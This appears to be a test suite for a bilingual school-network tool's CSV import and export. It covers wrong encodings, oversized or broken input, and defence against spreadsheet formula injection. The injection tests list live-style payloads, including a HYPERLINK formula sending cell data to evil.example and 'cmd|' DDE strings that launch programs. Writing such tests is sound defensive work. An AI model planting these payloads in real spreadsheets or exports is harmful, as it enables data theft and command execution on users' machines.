// Broken and adversarial CSV: files in the wrong encoding (as a browser's File.text() hands them over:
// always decoded as UTF-8), huge cells, huge files, broken quotes, odd line ends and delimiters. Each
// gives a clear message (in both languages) or is read as well as it can be; nothing throws.
import { expect } from '@open-wc/testing';
import fc from 'fast-check';
import { MAX_CSV_CELL, MAX_CSV_TEXT, importCsv, parseMembershipsCsv, parseSchoolsCsv, schoolsToCsv, toCsv, type CsvImport } from '@plc-kit/core';

const SCHOOLS = 'id,name,cluster\r\ns1,Ysgol Gymraeg Bro Dinefwr – Llandeilo,Dinefwr\r\ns2,Ysgol Pen-y-garth — Penarth,Bro Morgannwg\r\ns3,Ysgol y Wern,Caerdydd\r\n';

/** Bytes of text in Windows-1252 (what Excel's plain "CSV" writes on a UK Windows machine). */
function windows1252(text: string): Uint8Array<ArrayBuffer> {
  const special: Record<string, number> = { '–': 0x96, '—': 0x97, '’': 0x92, '€': 0x80 };
  return Uint8Array.from([...text].map((c) => special[c] ?? (c.charCodeAt(0) < 256 ? c.charCodeAt(0) : 0x3f)));
}

/** What `await file.text()` gives for these bytes: always a UTF-8 decode. */
async function asFileText(bytes: Uint8Array<ArrayBuffer>): Promise<string> {
  return new File([bytes], 'schools.csv', { type: 'text/csv' }).text();
}

function reasons(result: CsvImport, lang: 'en' | 'cy' = 'en'): string[] {
  return result.problems.map((p) => p.reason[lang] ?? p.reason.en);
}

describe('robustness: CSV in the wrong encoding', () => {
  it('a Windows-1252 file: imports the lines and says that letters were lost and how to save the file', async () => {
    const text = await asFileText(windows1252(SCHOOLS));
    expect(text).to.include('\uFFFD');
    const result = parseSchoolsCsv(text);
    expect(result.schools.map((s) => s.id)).to.deep.equal(['s1', 's2', 's3']);
    expect(result.problems).to.have.length(1);
    expect(result.problems[0]!.line).to.equal(2);
    expect(result.problems[0]!.reason.en).to.match(/could not be read.*encoding.*CSV UTF-8/);
    expect(result.problems[0]!.reason.cy).to.match(/amgodiad.*CSV UTF-8/);
  });

  it('a UTF-16 file (Excel’s “Unicode text”): read, or one clear message, never columns full of NUL characters', async () => {
    const utf16 = (bom: number[]) => new Uint8Array([...bom, ...[...SCHOOLS].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8])]);
    // Without a byte-order mark every browser decodes it as UTF-8, NULs and all: the message says what to do.
    const result = parseSchoolsCsv(await asFileText(utf16([])));
    expect(result.schools).to.have.length(0);
    expect(reasons(result)).to.have.length(1);
    expect(reasons(result)[0]).to.match(/UTF-16.*CSV UTF-8/);
    expect(reasons(result, 'cy')[0]).to.match(/UTF-16/);
    // With one, some engines honour the mark (a clean read) and others do not (the same message).
    const withBom = parseSchoolsCsv(await asFileText(utf16([0xff, 0xfe])));
    if (withBom.schools.length) expect(withBom.problems).to.deep.equal([]);
    else expect(reasons(withBom)).to.have.length(1).and.to.match(/UTF-16/);
    for (const r of [result, withBom]) expect(JSON.stringify(r.problems)).not.to.include('\\u0000');
  });

  it('UTF-8 with or without a byte-order mark, and UTF-16 decoded as such, read cleanly', async () => {
    const utf8 = new TextEncoder().encode(SCHOOLS);
    for (const text of [await asFileText(utf8), await asFileText(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8])), `\uFEFF${SCHOOLS}`]) {
      const result = parseSchoolsCsv(text);
      expect(result.problems).to.deep.equal([]);
      expect(result.schools[0]!.name).to.equal('Ysgol Gymraeg Bro Dinefwr – Llandeilo');
    }
  });
});

describe('robustness: huge and broken CSV', () => {
  it('a huge cell skips its line with the reason, and the other lines import', () => {
    const text = `id,name\ns1,Ysgol Un\ns2,${'x'.repeat(1_000_000)}\ns3,Ysgol Tri\n`;
    const result = parseSchoolsCsv(text);
    expect(result.schools.map((s) => s.id)).to.deep.equal(['s1', 's3']);
    expect(result.problems).to.have.length(1);
    expect(result.problems[0]).to.include({ line: 3, column: 'name' });
    expect(result.problems[0]!.reason.en).to.include(`at most ${MAX_CSV_CELL.toLocaleString('en-GB')}`);
  });

  it('a file over the stated limit is refused with the limit', () => {
    const text = `id,name\n${'s1,x\n'.repeat(Math.ceil(MAX_CSV_TEXT / 5) + 1)}`;
    const result = parseSchoolsCsv(text);
    expect(result.schools).to.have.length(0);
    expect(reasons(result)).to.have.length(1);
    expect(reasons(result)[0]).to.match(/too large/).and.include(MAX_CSV_TEXT.toLocaleString('en-GB'));
  });

  it('an unclosed quote costs one line, not the rest of the file', () => {
    const text = `id,name\ns1,"Ysgol ${'y'.repeat(50_000)}\ns2,Ysgol Dau\ns3,"Ysgol ""Tri"""\n`;
    const result = parseSchoolsCsv(text);
    expect(result.schools.map((s) => s.id)).to.include.members(['s2', 's3']);
    expect(result.schools.find((s) => s.id === 's3')!.name).to.equal('Ysgol "Tri"');
    expect(result.problems.map((p) => p.line)).to.include(2);
  });

  it('semicolons (European spreadsheets), CR-only line ends and blank lines', () => {
    const result = parseSchoolsCsv('id;name;cluster\r\rs1;Ysgol Un;A\rs2;Ysgol Dau;B\r');
    expect(result.problems).to.deep.equal([]);
    expect(result.schools.map((s) => s.name)).to.deep.equal(['Ysgol Un', 'Ysgol Dau']);
  });

  it('binary junk gives messages, never an exception (property)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2000 }), fc.boolean(), (bytes, withHeader) => {
        const text = (withHeader ? 'id,name,plc_id,school_id\n' : '') + new TextDecoder().decode(bytes);
        for (const result of [parseSchoolsCsv(text), parseMembershipsCsv(text, { knownSchools: ['s1'] }), importCsv({ schools: text, memberships: text })]) {
          for (const p of result.problems) {
            expect(p.line).to.be.a('number').and.at.least(1);
            expect(p.reason.en).to.be.a('string').and.not.equal('');
            expect(p.reason.cy).to.be.a('string').and.not.equal('');
          }
          if (!text.trim()) expect(result.problems).to.not.be.empty;
        }
      }),
      { numRuns: 150 },
    );
  });
});

describe('robustness: formula injection through CSV cells', () => {
  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!'A1'", '-2+3+cmd|x', '\t=1+1', '\r=1+1'];

  it('exported cells never start a formula, and import gives back exactly what was exported', () => {
    const names = [...formulas, "'+!", "''=1", "'=SUM(A1)", "'quoted'", 'plain'];
    const schools = names.map((name, i) => ({ id: `s${i}`, name }));
    const csv = schoolsToCsv(schools);
    const cells = parseSchoolsCsv(csv);
    expect(cells.problems).to.deep.equal([]);
    expect(cells.schools.map((s) => s.name)).to.deep.equal(names);
    // What a spreadsheet sees: no cell (quoted or not) begins with = + - @ or a tab.
    for (const line of csv.split('\r\n').slice(1, -1)) {
      const name = line.slice(line.indexOf(',') + 1, line.lastIndexOf(',,,,,'));
      expect(name.replace(/^"/, ''), line).to.not.match(/^[=+\-@\t\r]/);
    }
  });

  it('any text round-trips through toCsv and back (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((s) => s.trim() === s && s.trim() !== '' && !s.includes('\uFFFD') && !s.includes('\u0000')), { minLength: 1, maxLength: 6 }), (names) => {
        const schools = names.map((name, i) => ({ id: `s${i}`, name }));
        const back = parseSchoolsCsv(schoolsToCsv(schools));
        expect(back.schools.map((s) => s.name)).to.deep.equal(names);
        expect(toCsv([names]).split(',').every((cell) => !/^[=+\-@\t\r]/.test(cell))).to.equal(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('robustness: CSV through the network map’s file picker', () => {
  async function importInto(files: File[]): Promise<HTMLElement> {
    await import('@plc-kit/elements/network-map/define.js');
    const el = document.createElement('plc-network-map') as HTMLElement & { updateComplete: Promise<boolean> };
    el.setAttribute('storage', 'none');
    document.body.append(el);
    await el.updateComplete;
    const input = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="file"]')!;
    const transfer = new DataTransfer();
    for (const f of files) transfer.items.add(f);
    input.files = transfer.files;
    input.dispatchEvent(new Event('change', { bubbles: true }));
    for (let i = 0; i < 100 && !el.shadowRoot!.querySelector('[role="alert"]'); i++) await new Promise((r) => setTimeout(r, 50));
    await el.updateComplete;
    return el;
  }
  const alertText = (el: HTMLElement) => [...el.shadowRoot!.querySelectorAll('[role="alert"]')].map((a) => a.textContent).join(' ');

  it('a Windows-1252 file imports its schools and shows the encoding message with the line', async () => {
    const el = await importInto([new File([windows1252(SCHOOLS)], 'ysgolion.csv', { type: 'text/csv' })]);
    expect(alertText(el)).to.match(/line 2/i).and.match(/CSV UTF-8/);
    expect(el.shadowRoot!.textContent).to.include('Ysgol y Wern');
    el.remove();
  });

  it('a huge cell and a broken quote are listed by line, and the good lines still import', async () => {
    const text = `id,name\ns1,Ysgol Un\ns2,${'x'.repeat(100_000)}\ns3,"Ysgol Tri\ns4,Ysgol Pedwar\n`;
    const el = await importInto([new File([text], 'schools.csv', { type: 'text/csv' })]);
    const alert = alertText(el);
    expect(alert).to.match(/line 3/i).and.match(/too long/);
    expect(alert).to.match(/line 4/i);
    expect(el.shadowRoot!.textContent).to.include('Ysgol Un').and.include('Ysgol Pedwar');
    el.remove();
  });
});
